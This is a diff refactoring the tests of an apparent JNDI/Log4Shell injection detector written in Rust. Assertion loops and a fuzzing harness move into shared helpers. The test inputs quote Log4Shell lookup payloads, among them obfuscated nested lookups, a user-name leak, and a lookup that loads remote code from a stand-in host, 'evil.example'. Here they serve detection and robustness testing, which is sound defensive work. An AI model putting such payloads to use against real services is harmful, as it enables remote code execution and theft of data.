@@ -418,7 +418,7 @@ fn hex_value(c: u8) -> Option<u8> {
 #[cfg(test)]
 mod tests {
     use super::*;
-    use crate::detect::MAX_FRAGMENT;
+    use crate::detect::test_support::{self, Hostile};
 
     #[test]
     fn attacks() {
@@ -444,10 +444,7 @@ mod tests {
             b"${${foo:-j}ndi:ldap://x/a}",
             b"jndi:ldap://evil.example:1389/Exploit",
         ];
-        for case in cases {
-            let hit = jndi(case);
-            assert!(hit.is_some(), "missed {}", String::from_utf8_lossy(case));
-        }
+        test_support::assert_detects_all(jndi, cases);
         let strong = jndi(b"${${lower:j}${upper:n}di:ldap://x/a}").expect("hit");
         assert!(strong.confidence >= 0.9);
         assert!(strong.fingerprint.contains("nested"));
@@ -476,57 +473,30 @@ mod tests {
             b"select a size",
             b"100% cotton, 50% off",
         ];
-        for case in cases {
-            assert!(
-                jndi(case).is_none(),
-                "fired on {}",
-                String::from_utf8_lossy(case)
-            );
-        }
+        test_support::assert_passes_all(jndi, cases);
     }
 
     #[test]
     fn hostile_inputs_do_not_panic() {
-        let all: Vec<u8> = (0..=255).collect();
-        let mut inputs: Vec<Vec<u8>> = vec![
-            all,
-            b"${".repeat(100_000),
-            b"}".repeat(100_000),
-            b"${jndi:".repeat(10_000),
-            b"%".repeat(10_000),
-            b"%24%7B".repeat(10_000),
-            b"${:-".repeat(10_000),
-            vec![0xC4; 1000],
-        ];
-        // Every truncation of a payload that exercises most of the scanner.
-        let sample: &[u8] = b"${${lower:j}${::-n}${env:X:-d}${date:'i'}:${upper:l}dap://${sys:user.name}.x/a}%24%7Bjndi:rmi://x/a%7D";
-        for end in 0..=sample.len() {
-            inputs.push(sample.get(..end).unwrap_or_default().to_vec());
-        }
-        let mut state: u64 = 0x9E37_79B9_7F4A_7C15;
-        let alphabet = b"${}:-jndilowerupper%247Bb'\\\xc4\xb1ldap/";
-        for _ in 0..3000 {
-            let len = (xorshift(&mut state) % 40) as usize;
-            let s = (0..len)
-                .map(|_| {
-                    let r = xorshift(&mut state) as usize;
-                    alphabet.get(r % alphabet.len()).copied().unwrap_or(b'$')
-                })
-                .collect();
-            inputs.push(s);
-        }
-        for input in &inputs {
-            if let Some(d) = jndi(input) {
-                assert!((0.5..=1.0).contains(&d.confidence));
-                assert!(d.fragment.len() <= MAX_FRAGMENT);
-            }
-        }
-    }
-
-    fn xorshift(state: &mut u64) -> u64 {
-        *state ^= *state << 13;
-        *state ^= *state >> 7;
-        *state ^= *state << 17;
-        *state
+        test_support::assert_total(
+            jndi,
+            Hostile {
+                fixed: vec![
+                    b"${".repeat(100_000),
+                    b"}".repeat(100_000),
+                    b"${jndi:".repeat(10_000),
+                    b"%".repeat(10_000),
+                    b"%24%7B".repeat(10_000),
+                    b"${:-".repeat(10_000),
+                    vec![0xC4; 1000],
+                ],
+                // Every truncation of a payload that exercises most of the scanner.
+                sample: b"${${lower:j}${::-n}${env:X:-d}${date:'i'}:${upper:l}dap://${sys:user.name}.x/a}%24%7Bjndi:rmi://x/a%7D",
+                alphabet: b"${}:-jndilowerupper%247Bb'\\\xc4\xb1ldap/",
+                seed: 0x9E37_79B9_7F4A_7C15,
+                count: 3000,
+                max_len: 40,
+            },
+        );
     }
 }
